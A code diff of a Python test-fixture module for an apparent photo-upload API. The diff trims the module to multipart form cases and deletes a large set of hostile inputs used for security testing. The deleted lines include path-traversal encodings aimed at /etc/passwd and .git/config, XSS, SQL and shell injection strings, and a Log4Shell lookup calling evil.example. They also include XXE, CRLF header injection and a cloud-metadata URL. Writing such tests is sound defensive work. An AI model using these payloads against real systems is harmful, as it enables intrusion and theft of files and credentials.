@@ -1,4 +1,4 @@
-"""Forms that are none, addresses that lead out, and words that attack: what strangers send."""
+"""Forms, each with what is to be said of it: what holds a photo is read, the rest refused."""
 
 import base64
 import gzip
@@ -6,10 +6,9 @@ from collections.abc import Mapping
 
 from tests.api.raw import form
 from tests.model.tiny import colour
-from tests.pages.hostile import LABELS
 from tests.photos import encoded
 
-__all__ = ["ADDRESSES", "FORMS", "GOOD", "KIND", "NAMED", "RED", "STEPS", "WORDS", "field", "part"]
+__all__ = ["FORMS", "GOOD", "KIND", "RED"]
 
 RED = encoded(colour("red"), "PNG")
 NAMED = b'Content-Disposition: form-data; name="photo"; filename="red.png"'
@@ -20,7 +19,7 @@ BROKEN, MISSING, INVALID = "malformed", "missing", "invalid"
 
 
 def part(*head: bytes, content: bytes = RED) -> bytes:
-    """A part of a form with these lines before its content."""
+    """A part with these lines before its content."""
     return b"\r\n".join(head) + b"\r\n\r\n" + content
 
 
@@ -189,68 +188,3 @@ FORMS: Mapping[str, tuple[bytes, bytes, str]] = {
     **{f"body: {name}": (body, KIND, said) for name, (body, said) in BODIES.items()},
 }
 """By name: a body, its Content-Type, and ``red`` where a photo is read, else the code."""
-
-STEPS = (
-    r"../ ..%2f %2e%2e/ %2e%2e%2f .%2e/ ..%5c ..\ %252e%252e%252f ..%252f ..%c0%af %c0%ae%c0%ae/ "
-    r"..%ef%bc%8f %e2%80%a5/ %ef%bc%8e%ef%bc%8e/ ....// ..;/ ..%00/ ..%0a/ ..%u2215 %%32e%%32e/ "
-    r"./ //"
-).split()
-"""Ways to write "one folder up", and what a careless server takes for it."""
-
-ADDRESSES = (
-    *(
-        f"{place}{step * deep}{file}"
-        for step in STEPS
-        for place in ("", "models/", "models/tiny/", "models/tiny/VERSION/", "docs-files/")
-        for deep, file in ((1, "canary.txt"), (2, "canary.txt"), (9, "etc/passwd"))
-    ),
-    *(
-        "models/.git/config models/tiny/.git/config models/tiny/VERSION/.git/config "
-        "models/tiny/canary.txt models/tiny/VERSION/canary.txt models/tiny/odd/canary.txt "
-        "models/tiny/VERSION/current models/tiny/current/graph.onnx models/tiny/1.0/graph.onnx "
-        "models/tiny/VERSION./graph.onnx models/tiny/.VERSION/graph.onnx models/tiny/VERSION "
-        "models/tiny/VERSION%00/graph.onnx models/tiny/VERSION%0a/graph.onnx models/tiny%0a "
-        "models/tiny/VERSION/graph.onnx%00 models/tiny/VERSION/graph.onnx%00.json "
-        "models/tiny/VERSION/graph.onnx%20 models/tiny/VERSION/graph.onnx%0a models/tiny%20 "
-        "models/tiny/VERSION/GRAPH.ONNX models/tiny/VERSION/graph.onnx. models/tiny/VERSION/ "
-        "models/tiny/VERSION/graph.onnx::$DATA models/tiny./VERSION/graph.onnx models/-tiny "
-        "models//tiny/VERSION/graph.onnx models//etc/passwd models/%2fetc%2fpasswd models/TINY "
-        "models/C:%5cWindows%5cwin.ini models/%5c%5chost%5cshare models/~root models/$HOME "
-        "models/tiny/VERSION/%2fetc%2fpasswd models/tiny/VERSION/file:%2f%2f%2fetc%2fpasswd "
-        "models/. models/.. models/%2e models/%2e%2e docs-files/ docs-files/%2fetc%2fpasswd"
-    ).split(),
-)
-"""Below ``/api/v1/``; VERSION stands for the version of ``tiny``."""
-
-WORDS = (
-    *LABELS,
-    "<script>alert(1)</script>",
-    '"><svg onload=alert(1)>',
-    "'-alert(1)-'",
-    "</script><script>alert(1)</script>",
-    "javascript:alert(1)",
-    "data:text/html,<script>alert(1)</script>",
-    "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
-    "{__class__.__mro__}",
-    "%s%n%x%p",
-    "${jndi:ldap://evil.example/a}",
-    "' OR '1'='1' --",
-    "'; DROP TABLE corrections; --",
-    '" UNION SELECT * FROM corrections',
-    "$(touch /tmp/loupe-was-here)",
-    "`id` | id ; id && id",
-    "=cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd",
-    "../../etc/passwd",
-    "C:\\Windows\\win.ini",
-    "file:///etc/passwd",
-    "http://169.254.169.254/latest/meta-data",
-    "a\r\nSet-Cookie: injected=1",
-    "a\r\n\r\n<html><script>alert(1)</script>",
-    "a\0b",
-    "\ufeff\u200b\u2028\u2029",
-    "\U000e0041\ufff9",
-    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
-    "__proto__[admin]=1",
-)
-"""Against pages, templates, formats, databases, shells, sheets, paths, headers and parsers."""
